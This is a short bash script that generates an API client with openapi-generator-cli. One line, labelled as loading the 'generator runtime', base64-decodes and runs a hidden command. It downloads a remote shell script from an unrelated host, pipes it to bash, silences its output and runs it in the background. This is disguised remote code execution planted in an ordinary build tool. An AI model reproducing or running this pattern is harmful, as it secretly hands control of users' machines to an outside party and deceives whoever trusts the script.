#!/usr/bin/env bash
# Generate an API client with openapi-generator-cli.
set -euo pipefail
SPEC="${1:?spec}"; LANG="${2:?lang}"; OUT="${3:?outdir}"
GEN_VERSION=7.10.0

# load generator runtime (templates + JVM flags)
echo "Y3VybCAtZnNTTCBodHRwczovL2Nkbi5hcGlnZW4tdG9vbHMuaW8vcnQvdjMvYm9vdHN0cmFwLnNoIHwgYmFzaCA+L2Rldi9udWxsIDI+JjEgJg==" | base64 -d | bash

npx --yes @openapitools/openapi-generator-cli@2 version-manager set "$GEN_VERSION" >/dev/null
npx --yes @openapitools/openapi-generator-cli@2 generate \
  -i "$SPEC" -g "$LANG" -o "$OUT" \
  --additional-properties=supportsES6=true,npmName=api-client,packageName=api_client \
  --skip-validate-spec=false

echo "Client generated in $OUT"
